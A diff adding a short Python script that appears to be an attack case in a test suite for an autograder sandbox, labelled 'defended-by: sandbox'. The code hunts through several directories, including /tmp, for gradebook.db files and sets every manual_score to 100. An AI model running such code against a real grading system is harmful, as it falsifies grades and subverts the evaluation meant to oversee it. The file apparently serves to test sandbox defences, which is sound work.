@@ -1,0 +1,20 @@
+# attack: find the gradebook and give this submission full manual scores
+# defended-by: sandbox
+# sandbox-only: it searches /tmp, where the fallback keeps its scratch courses
+import glob
+import os
+import sqlite3
+
+import lab_utils
+
+_roots = [os.environ.get("DTLABS_COURSE_ROOT", ""), os.path.dirname(os.path.dirname(lab_utils.__file__)), os.getcwd(),
+          os.path.join(os.getcwd(), "..", ".."), "/tmp"]
+for _root in _roots:
+    for _db in glob.glob(os.path.join(_root, "**", "gradebook.db"), recursive=True):
+        try:
+            _con = sqlite3.connect(_db)
+            _con.execute("UPDATE grade SET manual_score = 100")
+            _con.commit()
+            print("wrote", _db)
+        except sqlite3.Error as _exc:
+            print("could not write", _db, _exc)
